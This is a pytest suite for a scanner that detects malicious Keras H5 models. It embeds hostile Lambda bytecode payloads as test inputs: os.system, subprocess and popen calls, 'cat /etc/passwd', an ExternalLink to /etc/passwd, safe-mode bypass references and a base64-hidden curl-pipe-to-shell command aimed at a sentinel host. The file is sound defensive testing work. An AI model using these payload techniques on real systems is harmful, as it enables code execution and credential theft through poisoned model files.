"""Keras H5 models: Lambda bytecode, module references and safe-mode tricks in model_config."""

from __future__ import annotations

import base64
import io
import json
import marshal

import h5py
import pytest

from malhug.core.model import Category, Severity, Verdict
from tests.keras.keraslib import (
    dense,
    h5_bytes,
    lambda_b64,
    lambda_code,
    lambda_layer,
    only,
    rules,
    scan,
    sequential,
)


def test_benign_dense_model_is_clean() -> None:
    report = scan(h5_bytes(sequential(dense("dense"), dense("dense_1", 2))))
    assert report.format == "hdf5"
    assert report.findings == []
    assert report.verdict is Verdict.CLEAN


@pytest.mark.fires("MH301")
def test_lambda_with_os_system_is_command_exec() -> None:
    config = sequential(dense("dense"), lambda_layer([lambda_b64("os.system('echo malhug') or x"), None, None]))
    report = scan(h5_bytes(config))
    f = only(report, "MH301")
    assert report.verdict is Verdict.MALICIOUS
    assert f.severity is Severity.CRITICAL
    assert f.category is Category.COMMAND_EXEC
    assert f.location.member == "model_config"
    assert "$.config.layers[2].config.function[0]" in f.message
    assert "system" in f.message
    assert "'echo malhug'" in f.evidence and "/tmp/malhug-test.py" in f.evidence


def test_lambda_with_exec_of_print_is_code_exec() -> None:
    config = sequential(lambda_layer([lambda_b64("exec(\"print('Malicious code!')\") or x"), None, None]))
    f = only(scan(h5_bytes(config)), "MH301")
    assert f.category is Category.CODE_EXEC
    assert f.severity is Severity.HIGH
    assert "exec" in f.message
    assert "print('Malicious code!')" in f.evidence


@pytest.mark.fires("MH302")
def test_harmless_lambda_is_still_suspicious() -> None:
    report = scan(h5_bytes(sequential(lambda_layer([lambda_b64("x * 2.0 + 1"), None, None]))))
    f = only(report, "MH302")
    assert f.severity is Severity.MEDIUM
    assert f.category is Category.UNSAFE_FORMAT
    assert report.verdict is Verdict.SUSPICIOUS


def test_lambda_nested_in_time_distributed_and_functional_models() -> None:
    inner = {
        "class_name": "TimeDistributed",
        "config": {"name": "td", "layer": lambda_layer([lambda_b64("eval('1') or x"), None, None])},
    }
    bidi = {
        "class_name": "Bidirectional",
        "config": {"layer": {"class_name": "Functional", "config": {"layers": [inner]}}},
    }
    report = scan(h5_bytes({"class_name": "Functional", "config": {"name": "m", "layers": [bidi]}}))
    f = only(report, "MH301")
    assert "layers[0].config.layer.config.layers[0].config.layer.config.function[0]" in f.message
    assert f.category is Category.CODE_EXEC


def test_keras3_lambda_dict_form_is_decoded() -> None:
    fn = {
        "class_name": "__lambda__",
        "config": {"code": lambda_b64("__import__('subprocess').call(['id']) or x"), "defaults": None, "closure": None},
    }
    f = only(scan(h5_bytes(sequential(lambda_layer(fn)))), "MH301")
    assert f.severity is Severity.CRITICAL
    assert f.category in {Category.COMMAND_EXEC, Category.RECON}
    assert "subprocess" in f.message
    assert "'subprocess'" in f.evidence


@pytest.mark.fires("MH303")
def test_undecodable_lambda_is_suspicious_not_clean() -> None:
    garbage = base64.b64encode(b"\xe3" + b"\x00" * 7 + b"system popen garbage").decode()
    report = scan(h5_bytes(sequential(lambda_layer([garbage, None, None]))))
    f = only(report, "MH303")
    assert f.severity is Severity.HIGH  # its bytes mention system/popen
    assert "popen" in f.message
    missing = scan(h5_bytes(sequential(lambda_layer(["not base64 at all!", None, None]))))
    assert only(missing, "MH303").severity is Severity.MEDIUM
    assert missing.verdict is Verdict.SUSPICIOUS


@pytest.mark.fires("MH304")
def test_lambda_naming_a_function_in_os_is_critical() -> None:
    layer = lambda_layer("system", function_type="function", module="os")
    f = only(scan(h5_bytes(sequential(layer))), "MH304")
    assert f.evidence == "os.system"
    assert f.category is Category.COMMAND_EXEC
    assert f.severity is Severity.CRITICAL


@pytest.mark.fires("MH304")
def test_keras3_function_reference_to_builtins_exec() -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": "d",
            "units": 2,
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "exec",
                "registered_name": "function",
            },
        },
    }
    f = only(scan(h5_bytes(sequential(layer))), "MH304")
    assert f.evidence == "builtins.exec"
    assert f.category is Category.CODE_EXEC
    assert f.severity is Severity.HIGH


@pytest.mark.quiet("MH305")
@pytest.mark.fires("MH305")
def test_custom_object_outside_keras_is_a_note() -> None:
    layer = {
        "module": "my_project.layers",
        "class_name": "Attention",
        "config": {"units": 4},
        "registered_name": "Custom>Attention",
    }
    report = scan(h5_bytes(sequential(layer)))
    f = only(report, "MH305")
    assert f.severity is Severity.LOW
    assert f.evidence == "my_project.layers.Attention"
    assert report.verdict is Verdict.CLEAN
    keras_own = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}, "registered_name": None}
    assert scan(h5_bytes(sequential(keras_own))).findings == []


def test_dotted_class_name_into_subprocess() -> None:
    layer = {"class_name": "subprocess.Popen", "config": {"args": ["id"]}}
    f = only(scan(h5_bytes(sequential(layer))), "MH304")
    assert f.evidence == "subprocess.Popen"
    assert f.category is Category.COMMAND_EXEC


@pytest.mark.fires("MH306")
def test_enable_unsafe_deserialization_and_safe_mode_flag() -> None:
    trick = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    report = scan(h5_bytes(sequential({"class_name": "Dense", "config": {"name": "d", "activation": trick}})))
    f = only(report, "MH306")
    assert f.severity is Severity.CRITICAL
    flag = scan(h5_bytes({**sequential(dense("d")), "safe_mode": False}))
    assert only(flag, "MH306").severity is Severity.MEDIUM


def test_bytecode_hidden_in_a_custom_layer_config() -> None:
    layer = {"class_name": "MyLayer", "config": {"payload": lambda_b64("__import__('os').system('id') or x")}}
    f = only(scan(h5_bytes(sequential(layer))), "MH301")
    assert "hidden bytecode at $.config.layers[1].config.payload" in f.message
    assert f.category is Category.RECON


@pytest.mark.fires("MH307")
def test_invalid_model_config_json() -> None:
    report = scan(h5_bytes('{"class_name": "Sequential", "config": {'))
    f = only(report, "MH307")
    assert f.location.member == "model_config"
    assert report.verdict is Verdict.SUSPICIOUS


def test_config_in_a_non_root_attribute_is_walked() -> None:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        g = f.create_group("extra")
        g.attrs["config"] = json.dumps(sequential(lambda_layer([lambda_b64("os.popen('id') or x"), None, None])))
    finding = only(scan(buf.getvalue()), "MH301")
    assert finding.location.member == "/extra@config"


@pytest.mark.fires("MH308")
def test_external_link_is_reported_not_followed() -> None:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f["leak"] = h5py.ExternalLink("/etc/passwd", "/data")
    report = scan(buf.getvalue())
    f = only(report, "MH308")
    assert f.evidence == "/etc/passwd:/data"
    assert f.category is Category.PATH_TRAVERSAL


def test_broken_hdf5_is_malformed() -> None:
    data = h5_bytes(sequential(dense("d")))
    report = scan(data[:600])
    assert report.format == "hdf5"
    assert "MH901" in rules(report)
    assert report.verdict is not Verdict.CLEAN


@pytest.mark.fires("MH301")
@pytest.mark.quiet("MH301")
def test_lambda_opening_a_file_for_writing_is_file_write() -> None:
    config = sequential(lambda_layer([lambda_b64("open('/tmp/malhug-sentinel-x', 'w').close() or x"), None, None]))
    f = only(scan(h5_bytes(config)), "MH301")
    assert f.category is Category.FILE_WRITE
    assert f.severity is Severity.HIGH
    reading = sequential(lambda_layer([lambda_b64("len(open('/tmp/labels.txt', 'r').read()) + x"), None, None]))
    assert rules(scan(h5_bytes(reading))) == ["MH302"]


def test_base64_that_only_looks_like_bytecode_is_ignored_outside_lambdas() -> None:
    lookalike = base64.b64encode(b"\xe3" + bytes(range(60))).decode()
    layer = {"class_name": "MyLayer", "config": {"name": "m", "blob": lookalike}}
    assert scan(h5_bytes(sequential(layer))).findings == []


def test_non_json_attribute_that_looks_like_a_config_is_not_malformed() -> None:
    data = h5_bytes(sequential(dense("d")), extra_attrs={"notes": "{'config': 'a python repr, not JSON'}"})
    assert scan(data).findings == []


def test_payload_in_defaults_closure_or_arguments_is_assessed() -> None:
    code = lambda_code("os.system(cmd) or x")
    b64 = base64.b64encode(marshal.dumps(code)).decode()
    closure = scan(h5_bytes(sequential(lambda_layer([b64, None, ["cat /etc/passwd"]]))))
    f = only(closure, "MH301")
    assert f.category is Category.CREDENTIAL_THEFT
    assert "'cat /etc/passwd'" in f.evidence
    layer = lambda_layer({"class_name": "__lambda__", "config": {"code": b64, "defaults": None, "closure": None}})
    layer["config"]["arguments"] = {"cmd": "whoami"}
    assert only(scan(h5_bytes(sequential(layer))), "MH301").category is Category.RECON


def test_base64_payload_decoded_by_the_bytecode_is_assessed() -> None:
    hidden = base64.b64encode(b"import os\nos.system('curl -s https://malhug-sentinel.invalid/x | sh')").decode()
    source = f"exec(__import__('base64').b64decode('{hidden}')) or x"
    f = only(scan(h5_bytes(sequential(lambda_layer([lambda_b64(source), None, None])))), "MH301")
    assert f.category is Category.DOWNLOAD_EXEC
    assert "curl -s https://malhug-sentinel.invalid/x | sh" in f.evidence


def test_object_count_is_bounded_before_listing() -> None:
    from malhug.analyzers.api import scan_bytes
    from malhug.analyzers.limits import Limits

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for i in range(50):
            f.create_group(f"g{i}")
    report = scan_bytes(buf.getvalue(), limits=Limits(max_members=20))
    assert rules(report) == ["MH902"]
    assert "HDF5 objects" in report.findings[0].message
